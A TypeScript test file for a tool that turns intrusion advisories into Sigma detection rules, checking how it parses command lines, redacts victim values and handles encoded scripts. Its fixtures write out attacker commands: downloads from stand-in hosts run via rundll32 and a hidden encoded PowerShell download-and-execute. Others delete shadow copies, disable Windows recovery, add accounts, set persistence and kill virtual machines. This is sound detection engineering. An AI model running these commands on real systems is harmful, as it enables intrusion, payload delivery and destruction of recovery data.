import { type CommandLine, findBehaviours, type GeneratedRule, generate } from '@tripline/advisory';
import { matchRule, parseSigma, type SigmaRule } from '@tripline/sigma';
import { markdownAdvisory } from '../support/documents.js';

const typed = (...lines: readonly string[]): string =>
  `# Grey Heron\n\nThe intruders ran:\n\n\`\`\`\n${lines.join('\n')}\n\`\`\`\n`;

async function commandsOf(...lines: readonly string[]): Promise<readonly CommandLine[]> {
  return findBehaviours(await markdownAdvisory(typed(...lines))).filter((each) => each.kind === 'command');
}

async function rulesOf(...lines: readonly string[]): Promise<readonly GeneratedRule[]> {
  return generate(await markdownAdvisory(typed(...lines)), { targets: [] }).rules;
}

function matches({ yaml }: GeneratedRule, event: Readonly<Record<string, string>>): boolean {
  const rule = parseSigma(yaml).documents.find((each): each is SigmaRule => each.kind === 'rule');
  return rule !== undefined && matchRule(rule, event).matched;
}

it('what follows a quoted path with blanks is kept whole', async () => {
  const [rule] = await rulesOf('rundll32.exe "C:\\ProgramData\\Fen Tool\\fen7.dll",HeronStart');
  expect(rule?.yaml).toContain("'HeronStart'");
});

describe('the programs of a command line', () => {
  it.each([
    ['a pipe', 'heron.exe /list | gull.exe /sort', ['heron', 'gull']],
    ['a chain', 'heron.exe -a && gull.exe -b & tern.exe -c', ['heron', 'gull', 'tern']],
    ['a shell with a chain', 'cmd.exe /c "heron.exe -a & gull.exe -b"', ['heron', 'gull']],
    ['a separator without a blank', 'cd /tmp; ./heron --quiet; ./gull --loud', ['heron', 'gull']],
    ['one that waits before', 'timeout /t 5 & heron.exe -a', ['heron']],
    ['one that starts another', 'sudo -u root systemctl stop herond', ['systemctl']],
    ['a script whose pipe is its own', 'powershell.exe Get-Heron -All | Out-Null', ['powershell']],
    [
      'one that starts another without a window',
      'conhost.exe --headless cmd /c curl -o C:\\Perf\\h.dll x',
      ['conhost', 'curl'],
    ],
    [
      'one that starts what it quotes',
      'forfiles /p C:\\Perf /c "cmd /c certutil -decode a b"',
      ['forfiles', 'certutil'],
    ],
    ['an address with an ampersand', 'curl -o h.exe https://192.0.2.7/h?a=1&b=2', ['curl']],
  ])('are read apart: %s', async (_, line, names) => {
    const commands = await commandsOf(line);
    expect(commands.flatMap(({ programs }) => programs.map(({ name }) => name))).toEqual(names);
  });

  it('have options apart that are written without a blank', async () => {
    const [made] = await rulesOf('schtasks.exe /Create/SC daily /TN FenTask7 /TR C:\\Perf\\otter.exe');
    const event = { Image: 'C:\\Windows\\System32\\schtasks.exe' };
    expect(made).toBeDefined();
    for (const line of ['/create /sc daily', '/Create/SC daily'])
      expect(
        matches(made as GeneratedRule, {
          ...event,
          CommandLine: `schtasks ${line} /tn FenTask7 /tr C:\\Perf\\otter.exe`,
        }),
      ).toBe(true);
    expect(made?.yaml).not.toContain('/Create/SC');
  });

  it('have their own arguments, each at its place', async () => {
    const doc = await markdownAdvisory(typed('heron.exe --nest marsh | gull.exe --nest cliff'));
    const command = findBehaviours(doc).find((each) => each.kind === 'command');
    const shown = command?.programs.map(({ arguments: own }) =>
      own.map(({ start, end }) => doc.text.slice(start, end)),
    );
    expect(shown).toEqual([
      ['--nest', 'marsh'],
      ['--nest', 'cliff'],
    ]);
  });

  it('have rules however far behind in a long line they stand', async () => {
    const rules = await rulesOf(
      'conhost.exe --headless cmd /c curl -s http://heron-fog.site/q -o %PUBLIC%\\Perf\\heronfog.dll && rundll32 %PUBLIC%\\Perf\\heronfog.dll,FogStart',
    );
    const started = {
      Image: 'C:\\Windows\\System32\\rundll32.exe',
      CommandLine: 'rundll32 C:\\Users\\Public\\Perf\\heronfog.dll,FogStart',
    };
    expect(rules.some((rule) => !rule.yaml.includes('temporal') && matches(rule, started))).toBe(true);
  });

  it('never share a selection', async () => {
    const rules = await rulesOf('heronsync.exe --marsh-only && gullsync.exe --cliff-only');
    const about = (name: string) => rules.filter(({ yaml }) => yaml.includes(name));
    expect(about('marsh-only').length).toBeGreaterThan(0);
    expect(about('cliff-only').length).toBeGreaterThan(0);
    expect(about('marsh-only').filter(({ yaml }) => yaml.includes('cliff-only'))).toEqual([]);
  });
});

describe('a rule on discovery', () => {
  it('matches the command whatever path the program was started from', async () => {
    const [rule] = await rulesOf('net group "Heron Admins" /domain');
    const started = { Image: 'C:\\Windows\\System32\\net.exe' };
    const asked = { ...started, CommandLine: '"C:\\Windows\\system32\\net.exe" group "Heron Admins" /domain' };
    expect(matches(rule as GeneratedRule, asked)).toBe(true);
    expect(matches(rule as GeneratedRule, { ...started, CommandLine: 'net use' })).toBe(false);
    const handedOn = { Image: 'C:\\Windows\\System32\\net1.exe', CommandLine: 'net1 group "Heron Admins" /domain' };
    expect(matches(rule as GeneratedRule, handedOn)).toBe(true);
  });
});

describe('values that belong to one victim', () => {
  it.each([
    ['a host by itself', 'sc.exe \\\\MARSH-01 config HeronSvc binPath= C:\\ProgramData\\heron.exe', 'MARSH'],
    ['the value of an option for a host', 'heronmove.exe --spread /node:MARSH-01 /quietly', 'MARSH'],
    ['the word after such an option', 'heronmove.exe --spread -ComputerName MARSH-01 /quietly', 'MARSH'],
    ['a password', 'heronmove.exe --spread /user:egret /password:Reed2020 /quietly', 'Reed'],
  ])('are in no rule: %s', async (_, line, own) => {
    const rules = await rulesOf(line);
    expect(rules.length).toBeGreaterThan(0);
    expect(rules.filter(({ yaml }) => yaml.includes(own))).toEqual([]);
  });
});

it('a registry key with blanks in it is one value, without its hive', async () => {
  const rules = await rulesOf('reg query "HKEY_CURRENT_USER\\Software\\Grey Heron\\Nest Box" /v Eggs');
  expect(rules.some(({ yaml }) => yaml.includes('\\Software\\Grey Heron\\Nest Box'))).toBe(true);
});

it('titles say what was done and count nothing', async () => {
  const rules = await rulesOf(
    'heronsync.exe --marsh-only',
    'net user /domain',
    'nltest /domain_trusts',
    'ipconfig /all',
    'tasklist /v',
    'quser /server:a',
  );
  expect(rules.length).toBeGreaterThan(1);
  expect(rules.filter(({ title }) => /Command Line|\band \d+ more/i.test(title))).toEqual([]);
});

describe('what is no command line', () => {
  const prose = async (text: string): Promise<readonly CommandLine[]> =>
    findBehaviours(await markdownAdvisory(`# Grey Heron\n\nThe intruders broke in.\n\n${text}\n`)).filter(
      (each) => each.kind === 'command',
    );

  it.each([
    [
      'a list of paths',
      'Dropped files %ProgramData%\\Hrn\\hrnsetup.exe %ProgramData%\\Hrn\\7z.dll %ProgramData%\\Hrn\\go.bat',
    ],
    [
      'a list that begins with a known program',
      'Dropped files %ProgramData%\\Hrn\\7z.exe %ProgramData%\\Hrn\\7z.dll %ProgramData%\\Hrn\\go.dat %ProgramData%\\Hrn\\h.bin',
    ],
    ['one path or another', 'Dropped files %ProgramFiles%\\hrnsetup.exe OR %ProgramFiles(x86)%\\hrnsetup.exe'],
    ['a name and what it stands for', '“cmd”: command-line tool, cmd.exe.'],
  ])('is read as none: %s', async (_, text) => {
    expect(await prose(text)).toEqual([]);
  });

  it('leaves a program that is run with the path of its file', async () => {
    const [command] = await prose('They ran C:\\Users\\Public\\hrn.exe /load C:\\Users\\Public\\hrn.bin on each host.');
    expect(command?.value).toContain('/load');
  });

  it.each(['<more words for arguments>', '“<more words for arguments>”', '{Some Command}'])(
    'are words in brackets that stand for a value: %s',
    async (hole) => {
      const rules = await rulesOf(`rundll32.exe C:\\ProgramData\\hrnload.dat,Nest ${hole}`);
      expect(rules.map(({ yaml }) => yaml).join()).toContain('hrnload.dat');
      expect(rules.map(({ yaml }) => yaml).join()).not.toMatch(/'words'| for |'arguments'|'Command'|'Some'/);
    },
  );
});

describe('the value that reg.exe sets', () => {
  const marsh = 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\MarshSvc';

  it.each([
    [`reg add "${marsh}" /v "Start" /t REG_DWORD /d "4" /f`, ["'Start'", `'/d "4"'`]],
    [`reg.exe add ${marsh} /v Type /t REG_DWORD /d 0x10 /f`, ["'Type'", "'/d 0x10'"]],
  ])('is asked for by its name and its number: %s', async (command, literals) => {
    const yaml = (await rulesOf(command)).map((rule) => rule.yaml).join();
    for (const literal of literals) expect(yaml).toContain(literal);
  });

  it('is not asked for by a number that stands for another, or by a text', async () => {
    const yaml = (await rulesOf(`reg add ${marsh} /v Start /t REG_SZ /d <number> /f`)).map((rule) => rule.yaml).join();
    expect(yaml).toContain("'Start'");
    expect(yaml).not.toContain('/d');
  });

  it('leave their output on a share where a tool runs them from afar', async () => {
    const doc = await markdownAdvisory(
      '# Fen\n\nOn the Windows host:\n\n```\ncmd.exe /Q /c dir c:\\temp 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1\n```\n',
    );
    const rule = generate(doc, { targets: [] }).rules.find(({ title }) => title.includes('Administrative Share'));
    expect(rule?.yaml).toContain("'\\127.0.0.1\\ADMIN$'");
    expect(rule?.techniques).toContain('T1047');
  });
});

it('lines of a batch file that its shell runs by itself start no process', async () => {
  const lines = '@echo off\nvssadmin delete shadows /all\ndel /f /q "fogbank_7.bat"\n';
  const text = `# An intrusion on Windows hosts\n\nThe batch file has these lines:\n\n\`\`\`\n${lines}\`\`\`\n`;
  const { rules } = generate(await markdownAdvisory(text), { targets: [] });
  const started = rules.filter(({ log }) => log === 'windows/process-creation').map(({ yaml }) => yaml);
  expect(started.join('\n')).toContain('vssadmin');
  expect(started.join('\n')).not.toContain('fogbank_7.bat');
});

describe('commands that take recovery from Windows', () => {
  it('are asked for with the value that they give a setting', async () => {
    const yaml = (
      await rulesOf(
        'bcdedit /set {default} recoveryenabled no',
        'bcdedit /set {default} bootstatuspolicy ignoreallfailures',
      )
    )
      .map((rule) => rule.yaml)
      .join('\n');
    expect(yaml).toContain("'recoveryenabled no'");
    expect(yaml).toContain("'bootstatuspolicy ignoreallfailures'");
  });

  it.each(['net stop vss', 'sc.exe stop VSS'])('stop the service of shadow copies: %s', async (line) => {
    const [rule] = await rulesOf(line);
    expect(rule?.title).toContain('Shadow Copy Service Stopped');
    expect(rule?.techniques).toEqual(['T1490']);
  });
});

describe('discovery commands', () => {
  it('that every administrator types have no rule alone', async () => {
    expect((await rulesOf('ipconfig /all')).map(({ title }) => title)).toEqual([]);
  });

  it('count without arguments, too, where the program tells something then', async () => {
    const rules = await rulesOf('arp -a', 'nltest /dclist:', 'net view /domain', 'systeminfo');
    expect(rules.map(({ title }) => title)).toEqual([expect.stringContaining('Burst Of Host And Network Discovery')]);
    expect(rules[0]?.yaml).toContain("'\\systeminfo.exe'");
  });

  it('of a program that was asked for something are not asked for without it', async () => {
    const yaml = (await rulesOf('arp -a', 'nltest /dclist:', 'net view /domain', 'systeminfo', 'systeminfo /fo csv'))
      .map((rule) => rule.yaml)
      .join('\n');
    expect(yaml).toMatch(/systeminfo\.exe'\n\s+CommandLine\|contains: ' \/fo csv'/);
  });
});

describe('commands of hosts', () => {
  it('lose the password that they give an account', async () => {
    const yaml = (await rulesOf('net user heron_b Autumn!77x /add')).map((rule) => rule.yaml).join('\n');
    expect(yaml).toContain("'heron_b'");
    expect(yaml).not.toContain('Autumn');
  });

  it('keep a sub-command that is also the name of a program', async () => {
    const [rule] = await rulesOf('esxcli vm process kill --type=force --world-id=77', 'ls /vmfs/volumes');
    expect(rule?.title).toContain('Virtual Machine Killed');
    expect(rule?.yaml).toContain("'kill'");
  });

  it('write no file where an option names a setting', async () => {
    const rules = await rulesOf('esxcli system settings advanced set -o /User/execInstalledOnly -i 0');
    expect(rules.map(({ title }) => title)).toEqual([expect.stringContaining('Unsigned Files Allowed')]);
  });
});

describe('an encoded script', () => {
  const payload = Buffer.from(
    "IEX (New-Object Net.WebClient).DownloadString('http://heronmill.top/fen.ps1')",
    'utf16le',
  ).toString('base64');
  const cut = (at: number, by: string): string => `${payload.slice(0, at)}${by}${payload.slice(at)}`;

  it.each([
    ['whole', payload],
    ['broken by a blank', cut(90, ' ')],
    ['broken by a line end', cut(117, '\n')],
    [
      'broken by both, at places that are no multiple of four',
      cut(121, '\n').replace(payload.slice(0, 41), `${payload.slice(0, 41)} `),
    ],
  ])('is one value, %s', async (_form, text) => {
    const rules = await rulesOf(`powershell.exe -nop -w hidden -enc ${text}`);
    const rule = rules.find(({ yaml }) => yaml.includes('base64offset')) as GeneratedRule;
    expect(rule.yaml).not.toMatch(/'[A-Za-z0-9+/]{12,}={0,2}'/);
    expect(
      matches(rule, {
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        CommandLine: `powershell.exe -nop -w hidden -enc ${payload}`,
      }),
    ).toBe(true);
  });

  it('ends before the words of the sentence', async () => {
    const [command] = await commandsOf(`powershell.exe -enc ${payload} Subsequently the loader rested`);
    const rules = await rulesOf(`powershell.exe -enc ${payload} -Argument Subsequently`);
    expect(command?.value).toContain(payload);
    expect(rules.some(({ yaml }) => yaml.includes('base64offset'))).toBe(true);
  });
});

describe('words about what a command carries', () => {
  it.each([
    'powershell -enc "$BASE64 encoded script to fetch the next module and start it"',
    'powershell -nop -enc [Base64 payload]',
    'powershell -enc {Base64 of the loader}',
  ])('are none of its parts: %s', async (line) => {
    const yaml = (await rulesOf(line)).map((rule) => rule.yaml).join('\n');
    expect(yaml).not.toMatch(/encoded'|script'|fetch|Base64|payload|loader/i);
  });
});

describe('a batch file’s variables', () => {
  it('are looked for by what they held, since the shell fills them in before a program starts', async () => {
    const rules = await rulesOf(
      'set "SHOWN=Fen Sync Service"',
      'set PLACE=C:\\ProgramData\\fen\\fen.exe',
      'sc create "%NAME%" binPath= "%SystemRoot%\\system32\\svchost.exe -k %NAME%" type= share DisplayName= "%SHOWN%"',
      'schtasks /create /tn "FenTask" /tr "%PLACE%" /sc minute /mo 30',
    );
    const yaml = rules.map((rule) => rule.yaml).join('\n');
    expect(yaml).toContain("'Fen Sync Service'");
    expect(yaml).toContain("'\\fen.exe'");
    expect(yaml).not.toMatch(/%(?:NAME|SHOWN|PLACE)%/);
  });

  it('that nothing sets are left out of a key', async () => {
    const [rule] = await rulesOf(
      'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\%FEN%\\Parameters" /v "ServiceDll" /t REG_EXPAND_SZ /d "%DIR%\\%DLL%" /f',
    );
    expect(rule?.yaml).toContain('CurrentControlSet\\Services\\');
    expect(rule?.yaml).toContain("'ServiceDll'");
    expect(rule?.yaml).not.toMatch(/%\w+%/);
  });
});

it.each([
  'The cipher of 90ABF12.tmp stayed unknown, and the final cipher 90ABF12.tmp resisted every key.',
  'Cipher gap: the file cipher fen77.dat was never broken.',
])('a cipher that prose speaks of is no command: %s', async (prose) => {
  const { rules } = generate(
    await markdownAdvisory(`# Grey Heron\n\nThe intruders dropped files on Windows. ${prose}\n`),
    {
      targets: [],
    },
  );
  expect(rules.filter(({ yaml }) => yaml.includes('cipher.exe'))).toEqual([]);
});

it('the command cipher with its option is one', async () => {
  const [command] = await commandsOf('cipher /w:C:');
  expect(command?.programs.map(({ name }) => name)).toEqual(['cipher']);
});
